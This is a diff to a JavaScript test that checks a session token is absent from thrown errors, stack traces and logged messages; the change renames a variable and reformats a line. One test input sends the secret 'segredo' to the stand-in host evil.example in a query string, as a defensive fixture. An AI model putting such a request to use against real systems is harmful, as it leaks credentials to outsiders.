@@ -355,9 +355,11 @@ test('the token is in nothing that is thrown, logged or shown', async () => {
     await failureFrom(client.GET('/sessao')),
     await failureFrom(client.send('GET', 'https://evil.example/x?token=segredo')),
   ];
-  const said = thrown.map((error) => (error instanceof ApiError ? { ...error, all: `${error} ${error.stack}` } : null));
-  expect(said).not.toContain(null);
-  const all = JSON.stringify([said, context.onMessages.mock.calls, logs.map(({ mock }) => mock.calls)]);
+  const message = thrown.map((error) =>
+    error instanceof ApiError ? { ...error, all: `${error} ${error.stack}` } : null,
+  );
+  expect(message).not.toContain(null);
+  const all = JSON.stringify([message, context.onMessages.mock.calls, logs.map(({ mock }) => mock.calls)]);
   expect(all).toContain('local SEM_CONEXAO');
   expect(all).not.toContain('segredo');
   for (const log of logs) log.mockRestore();
